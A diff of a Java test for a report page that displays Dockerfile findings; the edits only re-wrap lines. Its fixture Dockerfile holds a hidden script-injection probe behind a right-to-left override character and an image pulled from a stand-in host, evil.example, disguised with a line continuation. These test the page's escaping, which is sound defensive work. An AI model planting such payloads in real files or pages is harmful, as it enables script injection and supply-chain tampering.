@@ -29,7 +29,8 @@ import org.jvnet.hudson.test.TestExtension;
 public class BaseReportPageTest {
 
     private static final String FILE = "# escape=`\n" + "FROM docker.io/library/alpine:3 AS tools\n"
-            + "# \u202e<script>document.title = 'stolen'</script>\n" + "FROM scratch\n" + "COPY --from=tools /bin /bin\n"
+            + "# \u202e<script>document.title = 'stolen'</script>\n" + "FROM scratch\n"
+            + "COPY --from=tools /bin /bin\n"
             + "COPY --from=evil.example/x`\n/tool:1 / /\n" + "ADD https://example.com/rootfs.tar /\n";
     /** {@code -Dcountersign.pictures=docs/images} for those of the documentation. */
     private static final Path PICTURES = Path.of(System.getProperty("countersign.pictures", "target/pictures"));
@@ -98,8 +99,9 @@ public class BaseReportPageTest {
             assertEquals(
                     "colours are the theme's",
                     "rgb(1, 2, 3)",
-                    browser.evaluate("getComputedStyle(document.querySelector('tr.countersign-finding--error td:last-child'))"
-                            + ".borderLeftColor"));
+                    browser.evaluate(
+                            "getComputedStyle(document.querySelector('tr.countersign-finding--error td:last-child'))"
+                                    + ".borderLeftColor"));
             browser.size(420, 900);
             assertEquals(
                     "a narrow window needs no sideways scrolling of the page",
